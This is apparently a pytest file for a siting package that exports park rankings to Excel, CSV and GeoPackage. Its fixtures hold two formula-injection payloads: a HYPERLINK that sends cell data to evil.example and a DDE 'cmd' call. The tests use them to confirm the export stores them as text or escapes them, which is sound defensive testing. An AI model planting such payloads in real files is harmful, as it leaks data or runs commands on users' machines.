"""Agency tables (siting.tables): ranking.xlsx, ranking.csv and sites.gpkg of a national run.

Built from the small real run of :func:`tests._maps_fixtures.make_run` (12 parks: Tamaulipas 28
with four sites, Querétaro 22 with the two hostile names, Hidalgo 13 and México 15 excluded by
the constraint, none in Nuevo León 19); variants replace its ranking or layers
(``dataclasses.replace``), never mutate it.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import math
import zipfile

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest

from siting import __version__, tables
from siting.municipal import municipal_surface
from siting.tables import AGENCY_KEYS, NUMBER_FORMATS, agency_table, labelled
from siting.text import AGENCY_COLUMNS_BY_LANG, AGENCY_TEXT_BY_LANG, NETWORK_TEXT
from tests._maps_fixtures import HOSTILE_NAME, TEMPLATE_NAME, make_run

ES = AGENCY_COLUMNS_BY_LANG["es"]
EN = AGENCY_COLUMNS_BY_LANG["en"]
#: Tamaulipas, Querétaro and Nuevo León (no site in the run).
STATES = ["28", "22", "19"]
DAY = dt.date(2026, 12, 1)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Parque")'
COMMAND = "+cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def run():
    return make_run(12)


@pytest.fixture(scope="module")
def hostile(run):
    """The run with formula names in Querétaro and a site not reachable by road (inf times)."""
    ranking = run.ranking.copy()
    first, second = ranking.index[ranking["CVE_ENT"].eq("22")][:2]
    ranking.loc[first, "name"] = FORMULA
    ranking.loc[second, "municipality"] = COMMAND
    ranking.loc[second, "crossing_drive_min"] = np.inf
    return dataclasses.replace(run, ranking=ranking)


@pytest.fixture(scope="module")
def book_es(run, tmp_path_factory):
    path = tmp_path_factory.mktemp("xlsx") / "ranking.xlsx"
    out = tables.write_ranking_xlsx(
        path, run, states=STATES, run_id="9f3c2a1b", day=DAY, author="Secretaría de Economía"
    )
    assert out == path
    return openpyxl.load_workbook(path)


def _rows(sheet) -> list[dict]:
    """Return a sheet's data rows as dicts keyed by header label."""
    values = list(sheet.iter_rows(values_only=True))
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


def _text(sheet) -> str:
    """Return every text cell of a sheet, one per line."""
    return "\n".join(
        str(v) for row in sheet.iter_rows(values_only=True) for v in row if isinstance(v, str)
    )


# --- the table ---------------------------------------------------------------------------------


def test_agency_table_orders_states_then_national_rank(run):
    table = agency_table(run, states=["28", "22", "13"])
    assert list(table.columns) == list(AGENCY_KEYS)
    ranking = run.ranking.loc[table.index]
    assert ranking["CVE_ENT"].tolist() == ["13", "22", "22", "28", "28", "28", "28"]
    tam = table[ranking["CVE_ENT"].eq("28")]
    assert tam["rank"].tolist() == [1.0, 2.0, 3.0, 7.0]
    assert tam["state_rank"].tolist() == [1.0, 2.0, 3.0, 4.0]
    assert table.loc[ranking["CVE_ENT"].eq("22"), "name"].tolist() == [HOSTILE_NAME, TEMPLATE_NAME]
    # scores are the national run's, never rescaled; numbers stay numbers
    assert table["score"].tolist() == run.ranking.loc[table.index, "score"].tolist()
    numeric = [k for k in AGENCY_KEYS if k in NUMBER_FORMATS]
    assert all(pd.api.types.is_float_dtype(table[k]) for k in numeric)


def test_unranked_sites_stay_last_in_their_state_with_the_reason(run):
    table = agency_table(run)  # every state
    assert len(table) == len(run.ranking)
    codes = run.ranking.loc[table.index, "CVE_ENT"].tolist()
    assert codes == sorted(codes)
    hidalgo = table.loc[run.ranking.loc[table.index, "CVE_ENT"].eq("13")].iloc[0]
    assert math.isnan(hidalgo["rank"]) and math.isnan(hidalgo["state_rank"])
    assert hidalgo["excluded_by"] == "crossing_km <= 650"
    assert hidalgo["score"] == pytest.approx(51.292447, abs=1e-6)  # kept, as the run has it
    ranked = table.dropna(subset=["rank"])
    assert ranked["state_rank"].notna().all()
    assert (ranked["excluded_by"] == "").all()


def test_exclusion_reasons_follow_the_language(run):
    ranking = run.ranking.copy()
    unreachable = NETWORK_TEXT["unreachable"].format(km=12.34)
    excluded = ranking.index[ranking["CVE_ENT"].eq("13")][0]
    ranking.loc[excluded, "excluded_by"] = f"crossing_km <= 650; {unreachable}"
    variant = dataclasses.replace(run, ranking=ranking)
    es = agency_table(variant, states="13", lang="es")["excluded_by"].iloc[0]
    en = agency_table(variant, states="13", lang="en")["excluded_by"].iloc[0]
    assert en == f"crossing_km <= 650; {unreachable}"
    assert es == (
        "crossing_km <= 650; sin acceso por carretera: ningún cruce comercial alcanzable "
        "(el sitio está a 12.3 km de la red)"
    )


def test_labels_in_both_languages(run):
    table = agency_table(run, states=["28"])
    assert list(labelled(table, "es").columns) == [ES[k] for k in AGENCY_KEYS]
    assert list(labelled(table, "en").columns) == [EN[k] for k in AGENCY_KEYS]
    assert ES["rank"] == "Lugar nacional" and ES["state_rank"] == "Lugar en el estado"
    assert all("(" in ES[k] for k in ("score", "crossing_drive_min", "crossing_km", "lon"))


def test_arguments_are_checked(run, tmp_path):
    with pytest.raises(ValueError, match=r"unknown state code\(s\) \['99', 'NL'\]") as info:
        agency_table(run, states=["28", "99", "NL"])
    assert "'01'" in str(info.value) and "'32'" in str(info.value)
    with pytest.raises(ValueError, match="`states` is empty"):
        agency_table(run, states=[])
    with pytest.raises(ValueError, match="`lang` was 'fr'"):
        tables.write_ranking_csv(tmp_path / "r.csv", run, lang="fr")
    with pytest.raises(ValueError, match="`result` must be a RunResult"):
        agency_table(run.ranking)
    with pytest.raises(ValueError, match="`surface` must be a GeoDataFrame"):
        tables.write_sites_gpkg(tmp_path / "s.gpkg", run, run.ranking.drop(columns="geometry"))
    bare = gpd.GeoDataFrame({"x": [1]}, geometry=gpd.points_from_xy([0], [0]))
    with pytest.raises(ValueError, match="it has no CRS; it lacks the column 'CVE_ENT'"):
        tables.write_sites_gpkg(tmp_path / "s.gpkg", run, bare)
    assert not list(tmp_path.iterdir())


# --- ranking.xlsx ------------------------------------------------------------------------------


def test_one_sheet_per_state_with_accents_after_the_about_sheet(book_es):
    assert book_es.sheetnames == ["Acerca de", "Nuevo León", "Querétaro", "Tamaulipas"]
    assert book_es["Nuevo León"].max_row == 1  # asked for, no site: the header only


def test_state_sheets_have_a_frozen_bold_filtered_spanish_header(book_es):
    for name in ("Nuevo León", "Querétaro", "Tamaulipas"):
        sheet = book_es[name]
        header = [c.value for c in sheet[1]]
        assert header == [ES[k] for k in AGENCY_KEYS]
        assert sheet.freeze_panes == "A2"
        assert all(c.font.b for c in sheet[1])
        last = openpyxl.utils.get_column_letter(len(AGENCY_KEYS))
        assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
        widths = [sheet.column_dimensions[c.column_letter].width for c in sheet[1]]
        assert all(6 <= w <= 60 for w in widths)


def test_cells_carry_number_formats(book_es):
    sheet = book_es["Tamaulipas"]
    header = [c.value for c in sheet[1]]
    for key, fmt in NUMBER_FORMATS.items():
        column = header.index(ES[key]) + 1
        cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
        assert cells and all(c.number_format == fmt for c in cells), key
    assert NUMBER_FORMATS["score"] == "#,##0.0" and NUMBER_FORMATS["labor_pool"] == "#,##0"
    assert NUMBER_FORMATS["rank"] == "0" and NUMBER_FORMATS["crossing_drive_min"] == "#,##0"


def test_scores_and_ranks_are_the_national_runs(book_es, run):
    rows = _rows(book_es["Tamaulipas"])
    national = run.ranking.set_index("name")
    assert [r[ES["state_rank"]] for r in rows] == [1, 2, 3, 4]
    for row in rows:
        site = national.loc[row[ES["name"]]]
        # not rescaled; openpyxl writes 16 significant digits (Excel keeps 15)
        assert row[ES["score"]] == pytest.approx(site["score"], rel=1e-14)
        assert row[ES["rank"]] == site["rank"]
        assert row[ES["state"]] == "Tamaulipas"
    assert [r[ES["name"]] for r in _rows(book_es["Querétaro"])] == [HOSTILE_NAME, TEMPLATE_NAME]


def test_about_sheet_names_the_run_and_its_sources(book_es, run):
    about = book_es["Acerca de"]
    text = _text(about)
    es = AGENCY_TEXT_BY_LANG["es"]
    assert about["A1"].value == es["title"]
    for expected in (
        "9f3c2a1b",
        "1 de diciembre de 2026",
        __version__,
        "Secretaría de Economía",
        run.scenario.name,
        "suma ponderada",
        "Nuevo León, Querétaro, Tamaulipas",
        "6 de los 12 sitios candidatos de la corrida nacional",
        "Elaboró",
        "Fuentes de datos",
        "Población económicamente activa",  # a criterion label in Spanish
    ):
        assert expected in text, expected
    for source in run.sources.values():
        for key in ("title", "publisher", "date", "licence"):
            assert str(source[key]) in text
    assert run.notes_in("es")[0] in text


def test_english_workbook(run, tmp_path):
    path = tables.write_ranking_xlsx(tmp_path / "r.xlsx", run, states=["22"], lang="en", day=DAY)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["About", "Querétaro"]
    assert [c.value for c in book["Querétaro"][1]] == [EN[k] for k in AGENCY_KEYS]
    text = _text(book["About"])
    assert "December 1, 2026" in text and "Data sources" in text
    assert "Run id" not in text  # no run id given: no line for it


def test_formula_text_is_stored_as_text_never_a_formula(hostile, tmp_path):
    path = tables.write_ranking_xlsx(tmp_path / "r.xlsx", hostile, states=["22"])
    sheet = openpyxl.load_workbook(path)["Querétaro"]
    header = [c.value for c in sheet[1]]
    name = sheet.cell(row=2, column=header.index(ES["name"]) + 1)
    municipality = sheet.cell(row=3, column=header.index(ES["municipality"]) + 1)
    assert (name.value, name.data_type) == (FORMULA, "s")
    assert (municipality.value, municipality.data_type) == (COMMAND, "s")
    assert name.quotePrefix and municipality.quotePrefix
    with zipfile.ZipFile(path) as archive:
        xml = "".join(
            archive.read(n).decode("utf-8") for n in archive.namelist() if "worksheets/" in n
        )
    assert "<f>" not in xml and "<f " not in xml
    # the unreachable site's drive time is an empty cell
    time = sheet.cell(row=3, column=header.index(ES["crossing_drive_min"]) + 1)
    assert time.value is None


def test_sheet_names_follow_excels_rules(run, tmp_path):
    states = run.layers["states"].copy()
    long = "Estado: [Libre]/y Soberano* de Querétaro?"
    states.loc[states["CVE_ENT"].isin(["22", "28"]), "state"] = long
    variant = dataclasses.replace(run, layers={**run.layers, "states": states})
    path = tables.write_ranking_xlsx(tmp_path / "r.xlsx", variant, states=["22", "28"])
    names = openpyxl.load_workbook(path).sheetnames[1:]
    assert len(names) == len({n.casefold() for n in names}) == 2
    for name in names:
        assert len(name) <= 31 and not set(name) & set("[]:*?/\\")
    assert names[0].startswith("Estado Libre y Soberano") and names[1].endswith(" (2)")


# --- ranking.csv -------------------------------------------------------------------------------


def test_csv_has_a_bom_spanish_headers_and_the_rows_of_the_sheets(run, tmp_path):
    path = tables.write_ranking_csv(tmp_path / "ranking.csv", run, states=STATES)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert "Querétaro" in text and "Ñandú" in text
    table = pd.read_csv(io.StringIO(text), dtype={ES["name"]: str})
    assert list(table.columns) == [ES[k] for k in AGENCY_KEYS]
    expected = agency_table(run, states=STATES)
    assert table[ES["name"]].tolist() == expected["name"].tolist()
    assert table[ES["score"]].tolist() == pytest.approx(expected["score"].tolist(), rel=1e-9)
    assert "1.0," not in text.splitlines()[1]  # ranks as 1, not 1.0 (%.10g)


def test_csv_escapes_formulas_and_blanks_infinite_times(hostile, tmp_path):
    path = tables.write_ranking_csv(tmp_path / "ranking.csv", hostile, states=["22"], lang="en")
    table = pd.read_csv(path, encoding="utf-8-sig")
    assert table[EN["name"]].iloc[0] == "'" + FORMULA
    assert table[EN["municipality"]].iloc[1] == "'" + COMMAND
    assert math.isnan(table[EN["crossing_drive_min"]].iloc[1])
    assert "inf" not in path.read_text(encoding="utf-8-sig")


# --- sites.gpkg --------------------------------------------------------------------------------


def test_geopackage_has_sites_and_municipal_surface(run, tmp_path):
    surface = municipal_surface(run)
    path = tmp_path / "fresh" / "sites.gpkg"
    path.parent.mkdir()
    assert tables.write_sites_gpkg(path, run, surface, states=["28", "22"]) == path
    assert pyogrio.list_layers(path)[:, 0].tolist() == ["sites", "municipal_surface"]
    sites = gpd.read_file(path, layer="sites", engine="pyogrio")
    assert sites.crs.to_epsg() == 4326
    assert set(sites.geom_type) == {"Point"}
    assert list(sites.columns) == [*AGENCY_KEYS, "CVEGEO", "CVE_ENT", "geometry"]
    expected = agency_table(run, states=["28", "22"])
    assert sites["name"].tolist() == expected["name"].tolist()
    assert sites["score"].tolist() == expected["score"].tolist()
    assert sites["state_rank"].tolist() == expected["state_rank"].tolist()
    assert np.allclose(sites.geometry.x, expected["lon"]) and np.allclose(
        sites.geometry.y, expected["lat"]
    )
    muns = gpd.read_file(path, layer="municipal_surface", engine="pyogrio")
    assert muns.crs.to_epsg() == 4326
    assert set(muns["CVE_ENT"]) == {"22", "28"}
    assert len(muns) == int(surface["CVE_ENT"].isin(["22", "28"]).sum())
    assert {"CVEGEO", "municipality", "best_score", "best_site", "best_rank", "reach_min"} <= set(
        muns.columns
    )
    reynosa = muns.set_index("CVEGEO").loc["28032"]
    assert reynosa["best_score"] == pytest.approx(run.ranking["score"].max())


def test_geopackage_replaces_an_old_file_and_writes_nulls_for_infinity(hostile, run, tmp_path):
    path = tmp_path / "sites.gpkg"
    stale = gpd.GeoDataFrame({"x": [1]}, geometry=gpd.points_from_xy([0], [0]), crs=4326)
    stale.to_file(path, driver="GPKG", layer="old", engine="pyogrio")
    surface = municipal_surface(run)
    tables.write_sites_gpkg(path, hostile, surface, states="22")
    assert pyogrio.list_layers(path)[:, 0].tolist() == ["sites", "municipal_surface"]
    sites = gpd.read_file(path, layer="sites", engine="pyogrio")
    assert sites["name"].iloc[0] == FORMULA  # a GIS layer keeps names verbatim
    assert math.isnan(sites["crossing_drive_min"].iloc[1])


def test_every_state_with_sites_and_the_sites_outside_mexico(run, tmp_path):
    ranking = run.ranking.drop(columns=["excluded", "excluded_by"])
    abroad = ranking.index[-1]
    ranking.loc[abroad, ["CVE_ENT", "state", "CVEGEO"]] = None
    variant = dataclasses.replace(run, ranking=ranking)
    table = agency_table(variant)
    assert "excluded_by" not in table.columns  # the ranking has no reason to give
    assert table.index[-1] == abroad
    path = tables.write_ranking_xlsx(tmp_path / "r.xlsx", variant, lang="en")
    book = openpyxl.load_workbook(path)
    present = sorted(set(ranking["CVE_ENT"].dropna()))
    names = run.layers["states"].set_index("CVE_ENT")["state"]
    assert book.sheetnames == ["About", *names.loc[present], "Outside Mexico"]
    outside = _rows(book["Outside Mexico"])
    assert [r[EN["name"]] for r in outside] == [ranking.loc[abroad, "name"]]
    assert sum(len(_rows(book[n])) for n in book.sheetnames[1:]) == len(ranking)
